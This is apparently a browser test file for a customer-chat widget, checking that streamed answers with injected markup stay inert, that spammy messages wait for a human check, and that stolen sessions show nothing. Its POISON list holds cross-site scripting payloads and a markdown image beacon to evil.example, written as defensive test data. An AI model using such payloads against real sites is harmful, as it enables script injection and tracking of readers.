"""Attempts that must come to nothing: a foreign site, a script in an answer, a picture that would tell who reads."""

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser.test_visitor import signed
from tests.browser.widget import Widget

pytestmark = pytest.mark.browser

POISON = [
    "Look: <img src=x onerror=alert(1)><script>alert(2)</script> ",
    "![x](https://evil.example/who?reads=this) [click](javascript:alert(3)) ",
    "[data](data:text/html,<script>alert(4)</script>) <a href='https://evil.example'>x</a>",
]


def asked_hosts(widget: Widget) -> set[str]:
    """Hosts that the page has talked to from now on."""
    hosts: set[str] = set()
    widget.page.on("request", lambda request: hosts.add(request.url.split("/")[2].split(":")[0]))
    return hosts


def test_an_answer_full_of_poison_stays_text_while_it_comes_and_afterwards(visit_small, small):
    small.actions.pieces, small.actions.seconds = POISON, 0.5
    try:
        widget = visit_small(small.page("demo")).open()
        hosts = asked_hosts(widget)
        answer = widget.ask("think slowly about it")
    finally:
        small.actions.pieces, small.actions.seconds = [], 0.0
    expect(answer).to_contain_text("<script>alert(2)</script>")
    assert answer.locator("img, script, iframe, [onerror]").count() == 0
    links = answer.locator(".bubble a").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert [link for link in links if not link.startswith("https://")] == []
    widget.page.reload()
    expect(widget.answers.first).to_be_visible()
    widget.page.wait_for_timeout(1_000)
    assert hosts <= {"127.0.0.1"}  # nobody learned that the answer was read


def test_a_message_that_looks_like_spam_waits_until_a_person_is_there(visit_small, small):
    widget = visit_small(small.page("demo")).open()
    widget.say("https://a.example https://b.example https://c.example https://d.example where is my order RS-5")
    link = widget.banner.locator("a")
    expect(link).to_be_visible(timeout=15_000)
    assert widget.violations() == []
    page = str(link.get_attribute("href"))
    assert httpx.get(page, timeout=30).status_code == 200
    assert httpx.post(page, data={"cf-turnstile-response": "solved-browser"}, timeout=30).status_code == 200
    expect(widget.answers.first).to_be_visible(timeout=30_000)
    expect(widget.banner).to_be_hidden()
    expect(widget.questions).to_have_count(1)


def test_a_site_that_the_tenant_does_not_name_gets_no_chat(visit_small, small):
    widget = visit_small(small.page("shop")).open()
    expect(widget.banner).to_be_visible(timeout=15_000)
    expect(widget.input).to_be_disabled()
    assert widget.page.evaluate("localStorage.getItem('sahayak:shop:session')") is None


def test_a_stolen_session_of_a_named_customer_shows_nothing(visit_small, small):
    victim = visit_small(small.page("club", identity=signed("victim"))).open()
    victim.ask("where is my order RS-22")
    stolen = victim.page.evaluate("localStorage.getItem('sahayak:club:session')")
    thief = visit_small(small.page("club"))
    thief.page.evaluate(
        "session => { localStorage.setItem('sahayak:club:session', session); "
        "localStorage.setItem('sahayak:club:introduced', '1'); }",
        stolen,
    )
    thief.page.reload()
    thief.open()
    thief.ask("hello")
    assert thief.page.evaluate("localStorage.getItem('sahayak:club:session')") != stolen
    expect(thief.questions).to_have_count(1)
    thief.page.reload()
    thief.page.wait_for_timeout(1_500)
    expect(thief.questions).to_have_count(1)
